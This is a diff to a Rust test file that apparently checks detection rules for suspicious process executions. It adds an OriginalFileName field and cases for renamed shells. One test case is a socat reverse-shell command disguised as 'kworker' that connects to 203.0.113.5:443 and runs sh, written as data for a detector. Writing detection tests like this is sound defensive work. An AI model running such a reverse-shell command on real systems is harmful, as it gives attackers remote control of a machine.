@@ -24,6 +24,7 @@ struct Exec<'a> {
     parent_uid: &'a str,
     capabilities: &'a str,
     previous: &'a str,
+    original: &'a str,
 }
 
 fn exec(image: &'static str, command: &'static str, parent: &'static str) -> Exec<'static> {
@@ -51,6 +52,7 @@ fn flat(e: &Exec) -> FlatEvent {
         ("ParentUserId", e.parent_uid),
         ("Capabilities", e.capabilities),
         ("PreviousImage", e.previous),
+        ("OriginalFileName", e.original),
     ] {
         if !value.is_empty() {
             f.push(name, value);
@@ -263,6 +265,28 @@ fn techniques_are_caught() {
             exec("/usr/bin/code", "code tunnel --name box", "/bin/bash"),
             "Tunnel",
         ),
+        (
+            exec("/usr/bin/dash", "git-x", "/usr/bin/git"),
+            "Interactive Shell",
+        ),
+        (
+            Exec {
+                original: "sh",
+                ..exec("/tmp/t/git-x", "git-x", "/usr/bin/git")
+            },
+            "Under Another Name",
+        ),
+        (
+            Exec {
+                original: "socat",
+                ..exec(
+                    "/dev/shm/kworker",
+                    "kworker TCP:203.0.113.5:443 EXEC:sh",
+                    "/bin/bash",
+                )
+            },
+            "Under Another Name",
+        ),
     ];
     let mut failures = Vec::new();
     for (e, expected) in &cases {
@@ -281,6 +305,15 @@ fn techniques_are_caught() {
 fn ordinary_work_is_not_flagged() {
     let rules = rules();
     let mut cases = vec![
+        // Audit logs name the kernel's comm as OriginalFileName: the program itself.
+        Exec {
+            original: "python3",
+            ..exec("/usr/bin/python3.11", "python3 script.py", "/bin/bash")
+        },
+        Exec {
+            original: "sh",
+            ..exec("/usr/bin/dash", "sh -c 'make all'", "/usr/bin/make")
+        },
         exec("/usr/bin/less", "less /var/log/syslog", "/bin/bash"),
         exec("/usr/bin/vim", "vim notes.txt", "/bin/bash"),
         exec("/usr/bin/find", "find . -name *.log", "/bin/bash"),
